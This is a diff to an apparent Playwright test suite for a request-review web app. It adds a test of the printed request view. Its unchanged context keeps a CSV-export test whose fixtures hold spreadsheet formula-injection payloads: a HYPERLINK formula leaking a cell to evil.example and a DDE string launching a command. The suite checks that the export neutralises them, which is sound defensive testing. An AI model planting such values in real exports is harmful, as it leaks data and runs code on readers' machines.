@@ -1,6 +1,6 @@
-// Reviewers take the queue away as a CSV file: the file holds exactly what the queue shows for
-// the same filters (every page of it), only what the reviewer may see, and nothing a spreadsheet
-// would run.
+// Reviewers take the queue away as a CSV file and print a request: the file holds exactly what
+// the queue shows for the same filters (every page of it), only what the reviewer may see, and
+// nothing a spreadsheet would run; a printed request is the record without the screen's controls.
 import { randomBytes } from "node:crypto";
 import { readFileSync } from "node:fs";
 
@@ -146,4 +146,74 @@ test("an organisation name written as a spreadsheet formula arrives as text", as
   expect(column("Organisation")).toEqual(['\'=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")']);
   expect(column("Contact person")).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0"]);
   for (const row of rows) for (const cell of row) expect(cell, "no cell starts as a formula").not.toMatch(/^[=+\-@\t\r]/);
+});
+
+/** Replaces the browser's print dialogue with a counter, so the Print button can be clicked headless. */
+async function countPrints(page: Page) {
+  await page.addInitScript(() => {
+    const counted = window as unknown as { prints: number };
+    counted.prints = 0;
+    window.print = () => {
+      counted.prints += 1;
+    };
+  });
+  return () => page.evaluate(() => (window as unknown as { prints: number }).prints);
+}
+
+test("a request prints as its record: answers, flags, assessments and history, without navigation or controls", async ({ page, browser, signInAs }) => {
+  const request = await createSubmittedRequest((answers) => {
+    answers.who.organisation = "Open Maps Lab";
+  });
+  const prints = await countPrints(page);
+  await signInAs("WMF_REVIEWER");
+  await page.goto(`/review/${request.id}`);
+  await page.getByRole("button", { name: "Take this request" }).click();
+  await expect(page.getByText("In review", { exact: true })).toBeVisible();
+  await page.getByRole("button", { name: "Print" }).click();
+  expect(await prints()).toBe(1);
+
+  const onScreen = [
+    page.getByRole("navigation", { name: "Main" }),
+    page.getByRole("button", { name: "Print" }),
+    page.getByRole("button", { name: "Release", exact: true }),
+    page.getByRole("button", { name: "Save assessment" }).first(),
+    page.getByRole("link", { name: "Back to the queue" }),
+  ];
+  for (const element of onScreen) await expect(element).toBeVisible();
+  await expect(page.getByText(/This printout shows the request as it stood on/)).toBeHidden();
+
+  await page.emulateMedia({ media: "print" });
+  for (const element of onScreen) await expect(element).toBeHidden();
+  await expect(page.locator("form").first()).toBeHidden();
+  await expect(page.locator(".skip-link")).toBeHidden();
+  await expect(page.locator(".site-footer")).toBeHidden();
+  await expect(page.getByRole("heading", { level: 1, name: `Review ${request.reference}` })).toBeVisible();
+  await expect(page.getByText(/This printout shows the request as it stood on/)).toBeVisible();
+  for (const heading of ["Who", "What", "Need", "Obligation", "Mission alignment", "Values alignment", "Flags", "History"]) {
+    await expect(page.getByRole("heading", { name: heading, exact: true })).toBeVisible();
+  }
+  await expect(page.getByText("Open Maps Lab").first()).toBeVisible();
+  await expect(page.getByRole("table", { name: "Assessments of Who" })).toBeVisible();
+  await expect(page.locator(".timeline")).toContainText("Taken");
+  const colours = await page.locator("h1").evaluate((element) => [getComputedStyle(element).color, getComputedStyle(document.body).backgroundColor]);
+  expect(colours[0]).toBe("rgb(0, 0, 0)");
+  const pdf = await page.pdf({ format: "A4" });
+  expect(pdf.subarray(0, 5).toString()).toBe("%PDF-");
+
+  // The requester's own page prints the same way.
+  const requesterContext = await browser.newContext({ baseURL });
+  await requesterContext.addCookies([{ name: "authjs.session-token", value: await createSession(request.requester.id), url: baseURL }]);
+  const own = await requesterContext.newPage();
+  await own.goto(`/requests/${request.id}`);
+  await expect(own.getByRole("button", { name: "Print" })).toBeVisible();
+  await expectAccessible(own);
+  await own.emulateMedia({ media: "print" });
+  await expect(own.getByRole("navigation", { name: "Main" })).toBeHidden();
+  await expect(own.getByRole("button", { name: "Print" })).toBeHidden();
+  await expect(own.getByRole("link", { name: "Cancel this request" })).toBeHidden();
+  await expect(own.getByText(/This printout shows the request as it stood on/)).toBeVisible();
+  await expect(own.getByRole("heading", { name: "Values alignment", exact: true })).toBeVisible();
+  await expect(own.getByText("Open Maps Lab").first()).toBeVisible();
+  expect((await own.pdf()).subarray(0, 5).toString()).toBe("%PDF-");
+  await requesterContext.close();
 });
